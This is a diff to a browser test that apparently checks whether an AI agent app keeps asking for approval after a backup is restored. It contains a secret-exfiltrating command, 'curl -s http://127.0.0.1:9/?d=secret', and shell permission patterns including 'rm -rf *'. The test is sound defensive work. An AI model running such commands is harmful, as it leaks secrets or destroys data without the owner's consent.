@@ -81,7 +81,7 @@ describe("backup and restore", () => {
     await expect.poll(() => confirm.count(), { timeout: 15_000 }).toBe(1);
     const items = await confirm.getByRole("list", { name: "Settings in the backup that allow more" }).getByRole("listitem").allInnerTexts();
     expect(items).toEqual([
-      expect.stringMatching(/^Shell commands: allowed without asking, where now asked first \(.*git push \*.*curl \*/),
+      expect.stringMatching(/^Shell commands: allowed without asking, where now asked first \(.*rm -rf \*.*git push \*/),
       "Web fetches: allowed without asking, where now asked first",
       'MCP server "helper" at https://mcp.invalid/mcp would be added and connected',
     ]);
@@ -93,11 +93,12 @@ describe("backup and restore", () => {
     expect(await settings.getByLabel("Web fetches").inputValue()).toBe("");
     await settings.getByRole("button", { name: "Close" }).click();
 
-    // The agent's curl still asks.
+    // The agent's curl still asks before its request leaves, naming the site and the command.
     await sendMessage(page, "Send the secret");
-    const card = chat(page).getByRole("group", { name: "The agent wants to run a command" });
+    const card = chat(page).getByRole("group", { name: "A command the agent runs wants to reach a site" });
     await expect.poll(() => card.count(), { timeout: 30_000 }).toBe(1);
     expect(await card.innerText()).toContain("curl -s http://127.0.0.1:9/?d=secret");
+    expect(await card.getByRole("button", { name: "Allow http://127.0.0.1:9 for this session" }).count()).toBe(1);
     await card.getByRole("button", { name: "Reject" }).click();
     await expect.poll(() => card.count()).toBe(0);
     expect(errors).toEqual([]);
